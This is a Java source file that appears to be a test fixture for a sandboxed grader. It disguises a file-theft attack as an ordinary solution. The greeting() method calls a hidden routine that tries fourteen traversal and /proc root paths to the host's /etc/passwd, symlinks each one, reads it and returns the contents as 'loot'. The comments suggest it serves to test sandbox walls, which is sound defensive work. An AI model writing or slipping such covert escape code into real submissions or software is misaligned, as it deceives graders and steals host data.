// Follows links of its own, dots and the roots of processes to files of the host; greets wrongly only if one was there.
// expects: graded 10
// needs: walls
package attacked.target;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

public final class TargetSolution implements Target {
    private static final String[] TARGETS = {
        "/etc/passwd",
        "../../../../../../../../etc/passwd",
        "/proc/1/root/etc/passwd",
        "/proc/self/root/../etc/passwd",
        "/proc/self/cwd/../etc/passwd",
        "/proc/1/cwd/../../etc/passwd",
        "/proc/thread-self/root/../../etc/passwd",
        "/old/etc/passwd",
        "/oldroot/etc/passwd",
        "/newroot/etc/passwd",
        "/jdk/../../etc/passwd",
        "/app/../etc/passwd",
        "/usr/lib/../../etc/passwd",
        "/lib/../../etc/passwd"
    };

    public double[] twice(double[] values) {
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        String loot = loot();
        return loot.isEmpty() ? "Hello, " + name : loot;
    }

    private static String loot() {
        StringBuilder loot = new StringBuilder();
        for (int i = 0; i < TARGETS.length; i++) {
            Path link = Path.of("link" + i);
            try {
                loot.append(Files.exists(Path.of(TARGETS[i])) ? TARGETS[i] : "");
                Files.createSymbolicLink(link, Path.of(TARGETS[i]));
                loot.append(Files.readString(link));
            } catch (IOException stopped) {
                System.err.println(stopped);
            }
        }
        return loot.toString();
    }
}
